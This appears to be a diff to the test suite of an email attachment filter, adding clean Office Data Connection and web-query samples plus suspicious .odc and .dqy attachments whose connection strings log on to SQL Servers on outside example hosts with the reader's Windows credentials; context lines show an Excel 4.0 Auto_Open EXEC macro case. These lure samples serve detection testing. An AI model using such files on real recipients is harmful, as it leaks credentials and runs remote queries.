@@ -118,6 +118,12 @@ func officeClean() []Sample {
 				`<w:p>`+fldRuns(` TOC \o "1-3" \h \z \u `)+`</w:p>`+
 					`<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://www.example.com/handbook&quot; "><w:r><w:t>Handbook online</w:t></w:r></w:fldSimple></w:p>`+
 					`<w:p><w:r><w:t>Page </w:t></w:r>`+fldRuns(" PAGE ", `\* MERGEFORMAT `)+`</w:p>`, "", "", nil)))})
+	add(ok("odc-intranet-sql", "a finance team's Office Data Connection file to the intranet SQL Server"),
+		mail{subject: "Finance connection", root: multipart("mixed", text("The connection file for the finance cube.\n"),
+			attach("application/octet-stream", "finance.odc", odcFile("Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Finance;Data Source=SQLFIN01\\PROD")))})
+	add(ok("iqy-own-site", "a web query (.iqy) to the sender's own site's price page"),
+		mail{from: "Pricing <pricing@supplies.example.com>", subject: "Prices", root: multipart("mixed", text("Our live prices as a web query.\n"),
+			attach("application/octet-stream", "prices.iqy", []byte("WEB\r\n1\r\nhttps://www.supplies.example.com/prices.html\r\n")))})
 	add(ok("rtf-picture", "an RTF letter with an ordinary embedded PNG picture"),
 		mail{subject: "Letter with logo", root: multipart("mixed", text("The letter with our logo.\n"),
 			attach("application/rtf", "letter.rtf", []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}\pard Dear customer,\par{\pict\pngblip\picw24\pich16\picwgoal360\pichgoal240 `+
@@ -267,6 +273,14 @@ func officeCases() []officeCase {
 			action: policy.Tag, subject: "Live prices", body: "Open the query for live prices.\n", ctype: "application/octet-stream", file: "prices.iqy",
 			data:  []byte("WEB\r\n1\r\nhttps://prices.example.net/live.php?list=[\"list\"]\r\n"),
 			wants: []relWant{{"heuristic", "dde-link", ""}}},
+		{name: "odc-sql-internet", about: "Office Data Connection file (.odc) whose connection string logs on to a SQL Server on the Internet with the reader's Windows credentials (Integrated Security=SSPI): Excel opens it and runs the query",
+			action: policy.Tag, subject: "Sales figures", body: "Open the connection for the live sales figures.\n", ctype: "application/octet-stream", file: "sales.odc",
+			data:  odcFile("Provider=SQLOLEDB.1;Integrated Security=SSPI;Persist Security Info=True;Initial Catalog=Sales;Data Source=sql.example.net"),
+			wants: []relWant{{"heuristic", "query-file-fetch", ""}}},
+		{name: "dqy-sql-internet", about: "Excel database query (.dqy) whose ODBC connection string logs on to a SQL Server on the Internet (Trusted_Connection)",
+			action: policy.Tag, subject: "Report", body: "Open the query for the report.\n", ctype: "application/octet-stream", file: "report.dqy",
+			data:  []byte("XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=tcp:db.example.net,1433;Trusted_Connection=Yes;DATABASE=sales\r\nSELECT * FROM orders\r\n"),
+			wants: []relWant{{"heuristic", "query-file-fetch", ""}}},
 		{name: "xls-xlm-auto-open-exec", about: "xls with a very hidden Excel 4.0 macro sheet, a built-in Auto_Open name and EXEC spelled with CHAR()",
 			action: policy.Reject, subject: "Invoice", body: "Invoice attached, enable editing to view.\n", ctype: "application/vnd.ms-excel", file: "invoice.xls",
 			data: f.XLS(f.XLSWorkbook{
@@ -625,4 +639,15 @@ func nestedStorages(entries []f.CFBEntry, n int) []f.CFBEntry {
 		parent = len(entries) - 1
 	}
 	return append(entries, f.CFBEntry{Name: "Data", Parent: parent, Data: []byte("nested")})
+}
+
+// odcFile is an Office Data Connection file as Excel saves one: an HTML
+// page whose <xml> block holds the connection.
+func odcFile(conn string) []byte {
+	return []byte(`<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns="http://www.w3.org/TR/REC-html40">` + "\r\n" +
+		`<head><meta http-equiv=Content-Type content="text/x-ms-odc; charset=utf-8"><meta name=ProgId content=ODC.Table><meta name=SourceType content=OLEDB>` + "\r\n" +
+		`<xml id=docprops><o:DocumentProperties xmlns:o="urn:schemas-microsoft-com:office:office"><o:Name>Sales</o:Name></o:DocumentProperties></xml>` + "\r\n" +
+		`<xml id=msodc><odc:OfficeDataConnection xmlns:odc="urn:schemas-microsoft-com:office:odc" xmlns="http://www.w3.org/TR/REC-html40"><odc:Connection odc:Type="OLEDB">` +
+		`<odc:ConnectionString>` + strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(conn) + `</odc:ConnectionString><odc:CommandType>Table</odc:CommandType><odc:CommandText>&quot;Sales&quot;.&quot;dbo&quot;.&quot;Orders&quot;</odc:CommandText>` +
+		`</odc:Connection></odc:OfficeDataConnection></xml></head><body></body></html>` + "\r\n")
 }
